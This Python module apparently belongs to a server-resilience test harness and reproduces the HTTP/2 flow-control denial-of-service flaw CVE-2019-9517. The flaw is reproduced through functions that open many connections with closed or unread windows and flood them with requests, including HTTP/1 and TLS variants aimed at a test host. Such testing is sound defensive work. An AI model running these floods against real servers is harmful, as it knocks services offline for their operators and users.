"""Responses that the client does not take: windows of nothing, and windows that are open while the
connection itself is not read ("internal data buffering"), so that what waits is in the program."""

from data_dribble import FIRST, answers
from lib.attack import HTTP1, HTTP2, TLS1, Attack, Case, scale
from lib.frames import (
    DATA,
    END_STREAM,
    INITIAL_WINDOW,
    LARGEST_WINDOW,
    frame,
    get,
    post,
    request,
    window_update,
)
from lib.world import read

CONNECTIONS = scale(64, 256)
# With an open window each response is written, so this is a flood of requests as well.
UNREAD = 8
STREAMS = 100


def reads(attacker, connections, window):
    """Large reads on all streams, of which nothing is taken."""
    head, sent = post(), 0

    def begin(at):
        wire = attacker.http2((INITIAL_WINDOW, window), at=at, receive=4096, reads=False)
        if wire:
            wire.send(window_update(0, LARGEST_WINDOW - (1 << 16)))
        return wire

    def burst(wire, _):
        nonlocal sent
        pieces = []
        for stream in wire.streams(STREAMS):
            sent += 1
            pieces += [request(stream, head, ends=False),
                       frame(DATA, END_STREAM, stream, read(FIRST + sent))]
        return b"".join(pieces)

    attacker.flood(connections, begin, burst, "requests", STREAMS)


def of_streams(attacker):
    reads(attacker, CONNECTIONS, 0)


def of_the_connection(attacker):
    reads(attacker, UNREAD, LARGEST_WINDOW)


def small(attacker):
    """Small responses on streams without a window."""
    def begin(at):
        return attacker.http2((INITIAL_WINDOW, 0), at=at, reads=False)

    def burst(wire, _):
        return b"".join(request(stream, get()) for stream in wire.streams(STREAMS))

    attacker.flood(CONNECTIONS, begin, burst, "requests", STREAMS)


def over_http1(attacker):
    """Large reads on all connections a client may have."""
    sent = 0

    def call(_, __):
        nonlocal sent
        sent += 1
        body = read(FIRST + sent)
        return (b"POST /rpc HTTP/1.1\r\nHost: edge.test\r\nContent-Type: application/json\r\n"
                b"Content-Length: %d\r\n\r\n" % len(body) + body)

    def begin(at):
        return attacker.http1(at, receive=4096, reads=False)

    attacker.flood(256, begin, call, "requests")


ATTACK = Attack(
    title="closed windows",
    published="CVE-2019-9517",
    cases=(
        Case("of streams", HTTP2, of_streams, {"requests": 1_000}, node=answers),
        Case("of the connection", HTTP2, of_the_connection, {"requests": 1_000}, node=answers),
        Case("small answers", HTTP2, small, {"requests": CONNECTIONS * STREAMS}),
        Case("of the connection", HTTP1, over_http1, {"requests": 256}, node=answers),
        Case("of the connection", TLS1, over_http1, {"requests": 256}, node=answers,
             is_long=True),
    ),
)
